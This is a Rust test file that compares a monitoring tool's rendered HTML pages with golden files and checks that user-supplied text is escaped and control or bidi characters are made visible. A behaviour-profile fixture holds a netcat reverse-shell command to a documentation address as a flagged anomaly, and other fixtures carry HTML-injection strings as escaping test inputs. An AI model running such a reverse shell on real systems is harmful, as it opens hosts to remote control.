//! Each page as it is written, compared with `testdata`. `UPDATE_GOLDEN=1` writes what is found there.
#![expect(
    clippy::unwrap_used,
    clippy::disallowed_methods,
    reason = "a test fails by panicking, and golden files are files"
)]

mod families;

use std::path::Path;
use std::sync::Arc;

use lanner_core::{AlertState, Labels};
use lanner_page::frame::Visitor;
use lanner_page::now::{self, Filter, Now, PARTS, Row};
use lanner_page::tree::Tree;
use lanner_page::{
    access, account, alert, assets, editor, explore, more, profiles, rules, sign_in, silences, switches,
    unlike, vulnerabilities,
};
use lanner_wire::api::{
    AlertView, EvaluationView, ProblemView, RuleDocument, RuleView, SilenceView, Status, SwitchPreview,
    SwitchView, UserView,
};
use serde::de::DeserializeOwned;
use serde_json::{Value, json};

const NOW_MS: i64 = 1_795_000_000_000;

fn read<T: DeserializeOwned>(value: Value) -> T {
    serde_json::from_value(value).unwrap()
}

fn ago(minutes: i64) -> String {
    lanner_core::time::format_time(NOW_MS - minutes * 60_000)
}

fn visitor() -> Visitor {
    Visitor {
        name: "ann".to_owned(),
        is_signed_in: true,
        may_operate: true,
        may_administer: true,
        form_token: "abcd".to_owned(),
        now_ms: NOW_MS,
    }
}

/// Somebody who may look and no more.
fn reader() -> Visitor {
    Visitor { name: "bob".to_owned(), may_operate: false, may_administer: false, ..visitor() }
}

fn alert(rule: &str, bank: &str, state: &str, minutes: i64) -> AlertView {
    let group = if bank.is_empty() { json!({}) } else { json!({ "bank": bank }) };
    read(json!({
        "fingerprint": lanner_core::alert::fingerprint(rule, &Labels::new([("bank", bank)])), "rule": rule, "version": 1,
        "group": group, "labels": { "bank": bank, "rule": rule, "severity": "page" }, "state": state, "since": ago(minutes),
        "active": state == "firing", "episode": 1, "started": ago(minutes), "resolved": null, "seen": ago(1),
        "window": { "start": ago(30), "end": ago(0) }, "value": 12.5, "base": 80.0, "change": -0.84, "bad_value": 12.5, "bad_base": 80.0,
        "content": format!("<b>{bank}</b>: only 12.5 payments"), "late": false, "silenced_by": [],
    }))
}

fn switch(id: &str, phase: &str) -> SwitchView {
    read(json!({
        "id": id, "version": 3, "changed": ago(90), "actor": "alert of payments-drop", "message": "it fires", "phase": phase,
        "document": {
            "id": id, "when": "bank == \"hsbc\"", "status": "active", "owner": "payments", "reason": "no <payments>",
            "valid": { "to": ago(-10) },
        },
        "counts": { "blocked": 7, "shadow": 0 },
    }))
}

fn silence() -> SilenceView {
    read(json!({
        "id": "0123456789abcdef", "matchers": ["bank=\"ing\""], "start": ago(10), "end": ago(-110), "status": "active",
        "author": "ann", "comment": "maintenance", "created": ago(10),
    }))
}

fn status() -> Status {
    read(json!({
        "version": "0.1.0", "started": ago(600), "now": ago(0), "ready": true, "problems": ["the disk is 91 % full"],
        "store": { "path": "data", "bytes": 1_572_864, "series": 2, "streams": 1 },
        "ingest": { "samples": 10, "events": 20, "rejected": 1 },
        "engine": { "rules": 4, "evaluations": 100, "lag_ms": 0, "next": ago(-1) },
        "alerts": { "normal": 7, "pending": 1, "firing": 2, "recovering": 0, "no_data": 0, "error": 0 },
        "outbox": { "pending": 1, "dead": 0 },
    }))
}

fn current() -> Now {
    let alerts = vec![
        alert("payments-floor", "hsbc", "firing", 20),
        alert("office-too-warm", "", "pending", 300),
        alert("payments-floor", "ing", "pending", 5),
        alert("payments-drop", "hsbc", "firing", 30),
    ];
    let recent = || [5.0, 4.0, 6.0, 1.0].map(Some).to_vec();
    let rows = now::sorted(alerts).into_iter().map(|alert| Row { alert, recent: recent() }).collect();
    let mut over = switch("block-bank.ing", "expired");
    over.switch.document["valid"]["to"] = json!(ago(20));
    let switches = vec![switch("block-bank.hsbc", "blocking"), over];
    Now { now_ms: NOW_MS, rows, switches, requests: Vec::new(), silences: vec![silence()], status: status() }
}

fn whole(now: &Now, filter: &Filter, visitor: &Visitor) -> String {
    let parts: Vec<(&str, Arc<str>)> =
        PARTS.iter().map(|id| (*id, now::part(id, now, filter).into())).collect();
    now::page(visitor, filter, 7, &parts)
}

fn evaluations() -> Vec<EvaluationView> {
    let one = |nth: i64| {
        let is_breach = nth < 2;
        read(json!({
            "id": format!("{nth:032x}"), "rule": "payments-drop", "version": 1, "group": { "bank": "hsbc" },
            "window": { "start": ago(nth * 10 + 30), "end": ago(nth * 10) },
            "value": if is_breach { 12.0 } else { 80.0 + nth as f64 }, "base": if nth == 5 { Value::Null } else { json!(82.0) },
            "change": null, "score": 0.1, "outcome": if is_breach { "breach" } else { "normal" },
            "state": if is_breach { "firing" } else { "normal" }, "late": false, "evaluated": ago(nth * 10),
        }))
    };
    (0..8).map(one).collect()
}

fn rule() -> RuleView {
    read(json!({
        "id": "payments-drop", "version": 2, "changed": ago(1000), "actor": "ann",
        "document": {
            "id": "payments-drop", "description": "Half as many <payments>", "relative": { "to": "1w", "drop": "50%" },
            "query": { "stream": "payments", "measure": "count", "by": ["bank"] },
        },
        "state": {
            "id": "payments-drop", "version": 2, "next": ago(-5), "last": null, "prefill": null,
            "states": { "normal": 5, "pending": 0, "firing": 1, "recovering": 0, "no_data": 0, "error": 0 },
        },
    }))
}

#[track_caller]
fn check(name: &str, page: &str) {
    let hashed = |text: String, asset: &assets::Asset| {
        text.replace(asset.address(), &format!("/assets/{}", asset.content_type))
    };
    let page = assets::all().into_iter().fold(page.to_owned(), hashed);
    let found = page.replace("><", ">\n<") + "\n";
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata").join(format!("{name}.html"));
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, &found).unwrap();
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(found == expected, "{} differs; UPDATE_GOLDEN=1 writes what was found:\n{found}", path.display());
    // Nothing runs that stands in the page itself, and what people or programs wrote stays text.
    for part in ["<script>", "style=", "onclick", "javascript:", "<b>hsbc", "<payments>"] {
        assert!(!page.contains(part), "{name} holds {part}");
    }
    // Of two classes browsers take the first.
    let is_twice = |tag: &&str| tag.split('>').next().unwrap_or_default().matches(" class=").count() > 1;
    assert_eq!(page.split('<').find(is_twice), None, "{name}");
}

#[test]
fn the_first_page() {
    check("now", &whole(&current(), &Filter::default(), &visitor()));
    let filter = Filter { text: "ING".to_owned(), state: Some(AlertState::Pending) };
    check("now-filtered", &whole(&current(), &filter, &reader()));
    let calm = Now { rows: Vec::new(), switches: Vec::new(), silences: Vec::new(), ..current() };
    check("now-calm", &whole(&calm, &Filter::default(), &reader()));
}

#[test]
fn alerts() {
    let chart = rules::chart("payments-drop bank=hsbc", &rule().rule.document, &evaluations());
    let block = alert::Block {
        id: "block-bank.hsbc".to_owned(),
        condition: "bank == \"hsbc\"".to_owned(),
        fields: vec!["bank".to_owned()],
        what: "bank=hsbc".to_owned(),
    };
    let one = alert::One {
        alert: alert("payments-drop", "hsbc", "firing", 30),
        chart,
        switches: vec![switch("block-bank.hsbc", "blocking")],
        block: Some(block.clone()),
        problem: None,
    };
    check("alert", &alert::one(&visitor(), &one));
    check("alert-read", &alert::one(&reader(), &one));
    let wanted = switches::Wanted { duration: "1h".to_owned(), message: "it fires".to_owned(), expect: None };
    check(
        "block",
        &alert::confirm_block(
            &visitor(),
            &one.alert,
            &block,
            &wanted,
            Some("it would block 83 % of the last 100 contexts"),
        ),
    );
    let fields = ["client", "agent", "finding"].map(str::to_owned).to_vec();
    let several = alert::Block { fields, ..block };
    let page = alert::confirm_block(&visitor(), &one.alert, &several, &wanted, None);
    let needs = "contexts with <code>client</code>, <code>agent</code> and <code>finding</code>; one without all of them is not blocked";
    assert!(page.contains(needs), "{page}");
}

#[test]
fn what_is_sent_can_be_seen() {
    let all: String = (0..=0x7f).filter_map(char::from_u32).collect();
    let alert = alert("r", &all, "firing", 30);
    let one = alert::One {
        alert,
        chart: rules::chart("r", &Value::Null, &[]),
        switches: Vec::new(),
        block: None,
        problem: None,
    };
    let page = alert::one(&visitor(), &one);
    assert!(page.contains('\u{2400}') && page.contains('\u{241b}') && page.contains('\u{2421}'), "{page}");
    let hidden: Vec<char> =
        page.chars().filter(|c| c.is_control() && *c != '\n' && *c != '\t' && *c != '\r').collect();
    assert_eq!(hidden, [], "{page}");
}

/// Where labels are read, their order is that of their characters; where they are sent back, they are what they were.
#[test]
fn nothing_turns_the_order_of_characters_around() {
    let alert = alert("r", "\u{202e}eciffo", "firing", 30);
    let page = alert::one(
        &visitor(),
        &alert::One {
            alert,
            chart: rules::chart("r", &Value::Null, &[]),
            switches: Vec::new(),
            block: None,
            problem: None,
        },
    );
    assert!(page.contains("bank=[U+202E]eciffo</h1>") && !page.contains('\u{202e}'), "{page}");
    let draft = silences::Draft { matchers: "bank=\"\u{202e}x\"".to_owned(), ..silences::Draft::default() };
    assert!(silences::new(&visitor(), &draft).contains("value=\"bank=&quot;\u{202e}x&quot;\""));
    let draft = editor::Draft { text: "id: \u{2067}x".to_owned(), ..editor::Draft::default() };
    assert!(editor::page(&visitor(), &draft).contains("id: \u{2067}x</textarea>"));
}

#[test]
fn rules_and_one_of_them() {
    let list = rules::List { rules: vec![rule()], text: String::new(), next: None };
    check("rules", &rules::list(&visitor(), &list));
    let one = rules::One {
        chart: rules::chart("payments-drop bank=hsbc", &rule().rule.document, &evaluations()),
        view: rule(),
        alerts: vec![alert("payments-drop", "hsbc", "firing", 30)],
        group: "bank=\"hsbc\"".to_owned(),
        span: "24h".to_owned(),
        history: vec![rule().rule, made()],
    };
    check("rule", &rules::one(&visitor(), &one));
}

/// The first version of the rule.
fn made() -> RuleDocument {
    let mut made = rule().rule;
    made.version = 1;
    made.document["relative"]["drop"] = json!("60%");
    made
}

#[test]
fn a_rule_that_is_written() {
    let text = "id: payments-drop\nrelative: { to: 1w, drop: 50% }\n".to_owned();
    let begun = editor::Draft { text, span: "2w".to_owned(), ..editor::Draft::default() };
    check("edit-new", &editor::page(&visitor(), &begun));
    let problem = |value: Value| read::<ProblemView>(value);
    let wrong = vec![
        problem(
            json!({ "path": "window", "line": 2, "column": 9, "message": "\"<30>\" is not a duration", "hint": "write for example 30m" }),
        ),
        problem(json!({ "path": "notify[0]", "message": "there is no receiver \"page\"" })),
    ];
    let refusal = Some("payments-drop was changed to version 3 by bob meanwhile".to_owned());
    let wrong = editor::Draft {
        rule: "payments-drop".to_owned(),
        version: 2,
        problems: Some(wrong),
        refusal,
        ..begun.clone()
    };
    check("edit-wrong", &editor::page(&visitor(), &wrong));
    let tried = |drop: f64, fired: u64| {
        json!({
            "goal": "choice", "settings": [{ "field": "relative.drop", "was": 50.0, "value": drop, "unit": "%" }],
            "detector": { "to": "1w", "drop": format!("{drop}%") }, "errors_only": false, "fired": fired,
            "per_week": fired as f64 / 2.0, "running": 0.001, "accuracy": null,
        })
    };
    let review = read(json!({
        "rule": "payments-drop", "span": { "start": ago(20_160), "end": ago(0) }, "evaluations": 2016, "scored": 2010, "breaches": 4,
        "fired": 2, "per_week": 1.0, "running": 0.002, "values": null, "scores": null, "limits": [], "accuracy": null, "suggestions": [],
        "episodes": [
            { "group": { "bank": "hsbc" }, "state": "firing", "from": ago(5_000), "alarm": ago(4_990), "end": ago(4_900) },
            { "group": { "bank": "<b>ing" }, "state": "firing", "from": ago(50), "alarm": ago(30), "end": null },
        ],
        "tried": [tried(80.0, 0), tried(52.5, 1), tried(20.0, 11)],
        "text": ["It would have fired 2 times.", "A second sentence."],
    }));
    let chart = rules::chart("payments-drop bank=hsbc", &rule().rule.document, &evaluations());
    let previewed = editor::Draft {
        problems: Some(Vec::new()),
        warnings: vec!["The id is not payments-drop any more".to_owned()],
        preview: Some(editor::Preview { review, chart }),
        ..begun
    };
    check("edit", &editor::page(&visitor(), &previewed));
}

#[test]
fn switches_and_one_of_them() {
    let list = switches::List {
        switches: vec![switch("block-bank.hsbc", "blocking"), switch("old", "expired")],
        requests: Vec::new(),
        text: String::new(),
        phase: String::new(),
        next: Some("old".to_owned()),
    };
    check("switches", &switches::list(&visitor(), &list));
    let preview = SwitchPreview { contexts: 200, blocked: 50, share: 0.25, ..SwitchPreview::default() };
    let one = switches::One {
        history: vec![switch("block-bank.hsbc", "blocking").switch],
        view: switch("block-bank.hsbc", "blocking"),
        request: None,
        preview: Some(preview),
        problem: Some("the switch has another version".to_owned()),
    };
    check("switch", &switches::one(&visitor(), &one));
    check("switch-read", &switches::one(&reader(), &one));
    let wanted =
        switches::Wanted { duration: "1h".to_owned(), message: "it <fails>".to_owned(), expect: Some(3) };
    check("switch-confirm", &switches::confirm(&visitor(), &one, &wanted, None));
    let trial = switches::Trial {
        context: "{\"bank\": \"hsbc\"}".to_owned(),
        switch: "block-bank.hsbc".to_owned(),
        verdict: Some(read(json!({
            "blocked": true, "switches": ["block-bank.hsbc"], "shadow": [], "reason": "no payments",
            "explanation": [{
                "id": "block-bank.hsbc", "blocks": true, "phase": "blocking", "condition": "true", "rolled_out": true,
                "tests": [{ "test": "bank == \"hsbc\"", "verdict": "true", "values": { "bank": "hsbc" } }], "missing": [],
            }],
        }))),
        problem: None,
    };
    check("switch-test", &switches::test(&visitor(), &trial));
}

#[test]
fn silences_and_a_new_one() {
    let list = silences::List { silences: vec![silence()], ..silences::List::default() };
    check("silences", &silences::list(&visitor(), &list));
    let draft = silences::Draft {
        matchers: "bank=\"hsbc\"".to_owned(),
        hits: Some(vec![alert("payments-drop", "hsbc", "firing", 30)]),
        ..silences::Draft::default()
    };
    check("silence-new", &silences::new(&visitor(), &draft));
}

/// Users and tokens: none, some, what was just made, and one user.
fn people() {
    let user: UserView = read(json!({
        "name": "b@<ob>", "scopes": ["read", "operate"], "changed": ago(90), "changed_by": "ann", "last_signed_in": ago(5),
    }));
    let token = read(json!({
        "name": "telegraf", "scopes": ["ingest"], "created": ago(9000), "created_by": "ann", "last_used": null,
    }));
    let open = access::Access { is_open: true, ..access::Access::default() };
    check("access-open", &access::page(&visitor(), &open));
    let made = access::Made::Token { name: "telegraf".to_owned(), token: "lanner_0<1".to_owned() };
    let draft = access::Draft { name: "<eve>".to_owned(), scopes: vec!["read".to_owned()] };
    let problem = Some("\"<eve>\" is not a valid token name".to_owned());
    let tokens = vec![token];
    let full = access::Access {
        users: vec![user.clone()],
        tokens,
        made: Some(made),
        user: draft,
        problem,
        ..access::Access::default()
    };
    check("access", &access::page(&visitor(), &full));
    let made = Some(access::Made::Password { name: user.name.clone(), password: None });
    let one = access::One {
        user,
        made,
        changed: Some("What they may do was changed."),
        problem: Some("<wrong>".to_owned()),
    };
    check("access-user", &access::one(&visitor(), &one));
}

#[test]
fn the_rest() {
    let asked = sign_in::Asked {
        next: "/rules?q=a".to_owned(),
        problem: Some("the token is invalid".to_owned()),
        ..sign_in::Asked::default()
    };
    check("sign-in", &sign_in::form(&asked));
    let named = sign_in::Asked { has_users: true, name: "<b>hsbc".to_owned(), ..asked };
    check("sign-in-users", &sign_in::form(&named));
    let through = sign_in::Asked { provider: Some("login.<example>".to_owned()), has_users: false, ..named };
    check("sign-in-provider", &sign_in::form(&through));
    check("sign-in-done", &sign_in::done("/rules?q=\"a\""));
    let account = account::Account {
        scopes: vec!["read".to_owned(), "operate".to_owned()],
        has_password: true,
        provider: None,
        is_changed: true,
        problem: Some("the present password is <wrong>".to_owned()),
    };
    check("account", &account::page(&visitor(), &account));
    let by_token = account::Account { has_password: false, ..account::Account::default() };
    check("account-token", &account::page(&reader(), &by_token));
    people();
    let more = more::More {
        receivers: Vec::new(),
        dead: Vec::new(),
        audit: Vec::new(),
        version: "0.1.0".to_owned(),
    };
    check("more", &more::page(&visitor(), &more));
    let asked = explore::Asked {
        stream: "payments".to_owned(),
        measure: "count".to_owned(),
        by: "bank".to_owned(),
        ..explore::Asked::default()
    };
    let parts = explore::what_made_it(&[
        ("bank=hsbc".to_owned(), vec![Some(10.0), Some(2.0)]),
        ("bank=ing".to_owned(), vec![Some(10.0), Some(12.0)]),
    ]);
    let chart = rules::chart("count of payments", &Value::Null, &evaluations());
    let there = explore::There { streams: vec!["payments".to_owned()], ..explore::There::default() };
    let shown = explore::Explore {
        asked,
        there: there.clone(),
        chart: Some(chart.clone()),
        n_series: 2,
        parts,
        ..explore::Explore::default()
    };
    check("explore", &explore::page(&visitor(), &shown));
    exploring(there, chart);
}

fn exploring(there: explore::There, chart: lanner_page::chart::Chart) {
    let nothing = explore::Explore::default();
    check("explore-nothing", &explore::page(&visitor(), &nothing));
    let there = explore::There {
        series: vec!["shop.a.orders".to_owned(), "shop.<b>".to_owned()],
        n_series: 40,
        sources: vec!["metrics".to_owned()],
        ..there
    };
    let choose = explore::Explore { there: there.clone(), ..explore::Explore::default() };
    check("explore-there", &explore::page(&visitor(), &choose));
    let asked = explore::Asked {
        targets: vec!["shop.*.orders".to_owned(), "sumSeries(shop.\"<b>\")".to_owned()],
        unusual: true,
        ..explore::Asked::default()
    };
    let empty = explore::Explore {
        asked: explore::Asked { stream: "payment".to_owned(), ..explore::Asked::default() },
        there: there.clone(),
        chart: Some(lanner_page::chart::Chart::default()),
        ..explore::Explore::default()
    };
    let page = explore::page(&visitor(), &empty);
    assert!(page.contains("Nothing ever came in for a stream <code>payment</code>. There are:"), "{page}");
    assert!(page.contains("href=\"/explore?stream=payments&amp;measure=count\""), "{page}");
    let judged = Some("shop.a.orders".to_owned());
    let shown = explore::Explore { asked, there, chart: Some(chart), judged, ..explore::Explore::default() };
    check("explore-unusual", &explore::page(&visitor(), &shown));
}

fn profile(status: &str) -> Value {
    json!({
        "id": "usual", "stream": "falco", "into": "anomaly", "fields": ["proc.exepath", "template(proc.cmdline)"], "status": status,
        "learned": 0.25, "events": 2881, "behaviours": 4, "novelty_rate": 0.0125, "flags_per_day": 1.24, "first": ago(3000), "latest": ago(2),
        "full": 0.031, "memory_bytes": 8_388_608, "hosts": 2,
    })
}

#[test]
fn behaviour_and_one_profile() {
    check("profiles-none", &profiles::list(&visitor(), &[]));
    check("profiles", &profiles::list(&visitor(), &[read(profile("active")), read(profile("learning"))]));
    let empty = |status: &str| profiles::One {
        detail: read(json!({ "profile": profile(status), "frequent": [], "hosts": [] })),
        span: "24h".to_owned(),
        steps: Vec::new(),
        rare: Vec::new(),
        tree: Tree::default(),
        cut_at: None,
    };
    check("profile-learning", &profiles::one(&reader(), &empty("learning")));
    let host = |name: &str, heard: i64| json!({ "host": name, "status": "active", "events": 40, "behaviours": 7, "novelty_rate": 0.5, "heard": ago(heard) });
    let rare = profiles::Rare {
        time: lanner_wire::api::Time(NOW_MS - 120_000),
        host: Some("web-7".to_owned()),
        what: "nc -e sh <203.0.113.7>".to_owned(),
        reason: "never seen: proc.exepath; in the fleet on 12 of 40 hosts".to_owned(),
        parts: vec![
            ("proc.exepath".to_owned(), "/usr/bin/nc".to_owned(), true),
            ("template(proc.cmdline)".to_owned(), "nc -e sh #".to_owned(), false),
        ],
        ancestors: vec!["nginx".to_owned(), "systemd".to_owned()],
        seen: 0,
        rarity_bits: 11.5,
        fleet: Some((true, "12 of 40 hosts".to_owned())),
    };
    let step = |nth: usize| profiles::Step {
        start_ms: NOW_MS - 1_800_000 * (8 - nth as i64),
        n_events: 60 + nth,
        n_new: nth % 3,
        n_rare: nth / 7,
    };
    let mut tree = Tree::default();
    tree.add(&["systemd", "nginx", "nc"], true);
    tree.add(&["systemd", "cron", "backup"], false);
    let whole = profiles::One {
        detail: read(json!({
            "profile": profile("active"), "hosts": [host("web-1", 3), host("web-7", 1)],
            "frequent": [{ "behaviour": "/usr/bin/dash | sh -c <backup>", "at_least": 960, "at_most": 960 }, { "behaviour": "b", "at_least": 3, "at_most": 5 }],
        })),
        steps: (0..8).map(step).collect(),
        rare: vec![rare],
        tree,
        cut_at: Some(100_000),
        ..empty("active")
    };
    check("profile", &profiles::one(&visitor(), &whole));
}

#[test]
fn what_else_changed() {
    let series = |name: &str, change: &str, score: f64, found: Option<f64>| json!({ "name": name, "labels": { "host": "<b>a" }, "change": change, "score": score, "found": found, "expected": 12.5 });
    let answer = read(json!({
        "range": { "start": ago(30), "end": ago(0) }, "compared": 10_000, "truncated": false,
        "series": [series("cpu", "higher", 2_500.0, Some(99.0)), series("disk", "stopped", 5.477_225, None)],
    }));
    let ranked = unlike::Ranked {
        from: "now-30m".to_owned(),
        to: "now".to_owned(),
        answer: Some(answer),
        problem: None,
    };
    check("unlike", &unlike::page(&visitor(), &ranked));
    let wrong =
        unlike::Ranked { answer: None, problem: Some("from: \"<soon>\" is no time".to_owned()), ..ranked };
    assert!(unlike::page(&visitor(), &wrong).contains("&lt;soon&gt;"));
}

fn finding() -> Value {
    json!({
        "key": "0123456789abcdef0123456789abcdef", "status": "open", "first_seen": ago(60_000), "last_seen": ago(1_500), "epss": 0.97,
        "exploited_since": "2021-12-10", "finding": {
            "scanner": "nessus", "check": "42873", "title": "Old <library>", "host": { "target": "192.0.2.7" }, "port": 443, "protocol": "tcp",
            "rated": { "severity": "critical", "source": "nessus" }, "ids": ["CVE-2021-44228", "CVE-2021-45046", "CVE-2021-45105"],
            "scores": [{ "version": "3.1", "base": 9.8 }], "description": "It <runs> what it logs.", "solution": "Update it.",
        },
    })
}

#[test]
fn vulnerabilities_and_one_of_them() {
    let severity = |name: &str, open: u64| json!({ "severity": name, "open": open, "exploited": open / 2, "set_aside": 1, "by_age": [open, 0, 0, 0] });
    let empty = vulnerabilities::List {
        overview: read(json!({ "severities": [], "hosts": [], "hosts_in_all": 0, "scans": [] })),
        page: read(json!({ "total": 0, "findings": [] })),
        filter: String::new(),
        status: "open".to_owned(),
        offset: 0,
        problem: None,
    };
    check("vulnerabilities-none", &vulnerabilities::list(&visitor(), &empty));
    let whole = vulnerabilities::List {
        overview: read(json!({
            "severities": [severity("critical", 3), severity("info", 0)], "hosts_in_all": 70,
            "hosts": [{ "name": "192.0.2.7", "open": 3, "critical": 3, "high": 0, "fixed": 0, "set_aside": 0 }],
            "scans": [{ "scanner": "nessus", "at": ago(1_500), "new": 2, "fixed": 1, "open": 3 }],
        })),
        page: read(json!({ "total": 203, "findings": [finding()] })),
        filter: "port == 443".to_owned(),
        offset: 100,
        problem: Some("filter: <nonsense>".to_owned()),
        ..empty
    };
    check("vulnerabilities", &vulnerabilities::list(&reader(), &whole));
    check("vulnerability", &vulnerabilities::one(&visitor(), &read(finding())));
}

/// A page that is full is small enough for a telephone's network, and its alerts can all be found.
#[test]
fn a_thousand_alerts_are_at_most_300_kb() {
    let alerts = (0..1_200)
        .map(|at| alert(&format!("rule-{}", at % 10), &format!("bank-{at}"), "firing", at))
        .collect();
    let recent: Vec<Option<f64>> = (0..20).map(|at| Some(f64::from(at * 37 % 11))).collect();
    let rows = now::sorted(alerts).into_iter().map(|alert| Row { alert, recent: recent.clone() }).collect();
    let page = whole(&Now { rows, ..current() }, &Filter::default(), &visitor());
    assert_eq!(page.matches("href=\"/alerts/").count(), now::MAX_LISTED);
    assert!(page.contains("200 more are not listed"));
    assert!(page.len() <= 300_000, "{} bytes", page.len());
}
